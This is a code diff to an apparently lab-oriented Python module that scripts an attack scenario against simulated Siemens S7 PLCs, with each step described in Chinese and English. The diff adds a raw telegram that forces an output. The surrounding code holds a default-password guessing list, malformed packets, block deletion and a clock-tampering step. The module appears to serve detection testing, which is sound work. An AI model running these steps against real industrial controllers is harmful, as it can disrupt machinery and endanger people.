@@ -20,6 +20,8 @@ from .base import Act, Attack, Text, text
 from .s7_block import LANGUAGE_STL, VALVE_CODE, block, recipe_block
 
 TYPE_OB = 0x08
+# head and one item: output byte 0 with its value, as STEP 7 sends it
+FORCE = "ff09001c0014000000010001000000020001000100010112080120000100ff"
 WRONG_PASSWORDS = ("simatic", "basisk", "admin123", "password", "12345678")
 NOT_THERE = 777
 
@@ -106,15 +108,6 @@ def _delete(client: Any) -> None:
     _quiet(lambda: client.delete(s7.native("snap7.type").Block.DB, plc_filler.RECIPES))
 
 
-def _force() -> None:
-    client = importlib.import_module("snap7.client").Client()
-    client.set_connection_type(s7.PG)
-    client.connect(machine("plc-filler").ip, s7.RACK, s7.SLOT)
-    area = importlib.import_module("snap7.type").Area.PA
-    _quiet(lambda: client.force_bit(area, 0, 1, True))
-    client.disconnect()
-
-
 def _malformed() -> None:
     """Lengths that lie, a function that is none, and a telegram cut into tiny segments."""
     connect = bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a")
@@ -154,8 +147,8 @@ ATTACK = Attack(
         _act("S7-13", "blocks", "historian", "plc-press", text("历史数据服务器列出程序块", "The historian lists the program blocks"), _with("plc-press", lambda client: client.list_blocks())),
         _act("S7-14", "lists", "historian", "plc-press", text("连续读取多种系统状态列表", "One system status list after the other is read"), _with("plc-press", _sweep)),
         _act("S7-16", "burst", "hmi-press", "plc-press", text("几秒内写入 30 个地址", "Thirty addresses are written within seconds"), _with("plc-press", _burst, s7.OP)),
-        _act("S7-17", "force", "eng", "plc-filler", text("强制输出", "An output is forced"), _force, "snap7"),
-        _act("S7-18", "debug", "eng", "plc-press", text("读取块的执行状态(调试)", "The state of a running block is watched"), _with("plc-press", _raw(*[_userdata(1, 0x13, "ff090004000c0000")] * 12))),
+        _act("S7-17", "force", "eng", "plc-filler", text("强制输出", "An output is forced"), _with("plc-filler", _raw(_userdata(1, 0x09, FORCE)))),
+        _act("S7-18", "debug", "eng", "plc-press", text("读取块的执行状态(调试)", "The state of a running block is watched"), _with("plc-press", _raw(*[_userdata(1, 0x13, "ff090004000c0000")] * 2))),
         _act("S7-19", "clock", "eng", "plc-press", text("把 PLC 时钟拨到 2001 年", "The PLC's clock is set to 2001"), _with("plc-press", lambda client: client.set_plc_datetime(datetime(2001, 1, 1)))),
         _act("S7-20", "password", "historian", "plc-press", text("尝试五个常见密码", "Five common passwords are tried"), _with("plc-press", _passwords)),
         _act("S7-21", "denied", "historian", "plc-press", text("反复读取不存在的数据块", "Data blocks that do not exist are read again and again"), _with("plc-press", _missing, s7.OP)),
